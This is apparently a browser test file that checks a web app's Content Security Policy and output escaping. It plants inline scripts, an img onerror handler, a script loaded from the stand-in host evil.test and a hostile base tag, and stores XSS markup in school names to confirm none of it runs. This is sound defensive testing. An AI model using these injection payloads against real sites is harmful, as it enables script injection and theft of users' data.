import { expect, test } from 'vitest';
import { useSchoolPerFile } from '../testing/school-per-file.ts';
import { useBrowser } from '../testing/browser-fixture.ts';

const { signedIn } = useBrowser();
const ownSchool = useSchoolPerFile();

/** Injection attempts, and the browser's error for each. */
const PLANTED = {
  'an inline script': {
    plant:
      "const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s)",
    error: /^Executing inline script violates the following Content Security Policy directive/,
  },
  'an inline event handler': {
    plant:
      'document.body.insertAdjacentHTML(\'beforeend\', \'<img src="data:," onerror="window.ran = 1">\')',
    error:
      /^Executing inline event handler violates the following Content Security Policy directive/,
  },
  'a cross-origin script': {
    plant:
      "const s = document.createElement('script'); s.src = 'https://evil.test/x.js'; document.body.append(s)",
    error:
      /^Loading the script 'https:\/\/evil\.test\/x\.js' violates the following Content Security Policy directive/,
  },
  'a changed base URI': {
    plant: "document.head.insertAdjacentHTML('beforeend', '<base href=\"https://evil.test/\">')",
    error:
      /^Setting the document's base URI to 'https:\/\/evil\.test\/' violates the following Content Security Policy directive/,
  },
} as const;

test('injected code does not run, and is reported', async () => {
  const visit = await signedIn('lincoln');
  const { page } = visit;
  for (const [what, { plant, error }] of Object.entries(PLANTED)) {
    const reported = page.waitForResponse((answer) => answer.url().endsWith('/api/csp-report'));
    await page.evaluate(plant);
    expect([what, (await reported).status()]).toEqual([what, 204]);
    await visit.errors.expectAll(error);
  }
  expect(await page.evaluate(() => Reflect.get(window, 'ran'))).toBeUndefined();
  expect(await page.evaluate(() => document.baseURI)).not.toContain('evil');
});

test('markup in the names of a school is shown as text on its screens', async () => {
  const { account } = ownSchool();
  const visit = await signedIn(account);
  const markup = '<img src=x onerror="window.ran = 1"><script>window.ran = 1</script>';
  const made = await visit.context.request.post('/api/opponents', {
    data: {
      schoolName: markup,
      managerName: markup,
      email: 'office@evil.test',
      phone: '5551234567',
    },
  });
  expect(made.status()).toBe(201);
  await visit.page.goto('/opponents');
  await visit.page.getByText(markup, { exact: true }).first().waitFor();
  expect(await visit.page.evaluate(() => Reflect.get(window, 'ran'))).toBeUndefined();
});

test('text cannot be evaluated as code', async () => {
  const visit = await signedIn('lincoln');
  // Deferred, because code run by the debugger is exempt from the policy.
  const refused = await visit.page.evaluate(
    () =>
      new Promise((done) => {
        setTimeout(() => {
          try {
            // oxlint-disable-next-line typescript/no-implied-eval -- what must not work
            done(String(new Function('return 1')()));
          } catch (error) {
            done(error instanceof Error ? error.name : 'thrown');
          }
        });
      }),
  );
  expect(refused).toBe('EvalError');
});
